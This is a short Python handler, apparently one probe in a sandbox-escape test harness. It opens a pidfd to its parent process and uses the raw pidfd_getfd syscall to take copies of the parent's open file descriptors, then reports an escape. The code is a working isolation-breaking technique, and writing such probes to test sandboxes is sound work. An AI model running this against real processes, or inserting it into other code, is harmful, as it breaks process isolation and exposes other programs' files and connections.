"""Steals the parent's open file descriptors with ``pidfd_getfd`` (raw syscall 438)."""


def handle(state, tool, args):
    pidfd = rt_os().pidfd_open(TARGET["parent_pid"])
    stolen = []
    for target_fd in range(3, 32):
        try:
            stolen.append(rt_syscall(438, pidfd, target_fd, 0))
        except OSError:
            continue
    if stolen:
        return rt_escaped(f"stole {len(stolen)} of the parent's file descriptors")
    raise OSError("pidfd_getfd gave nothing")
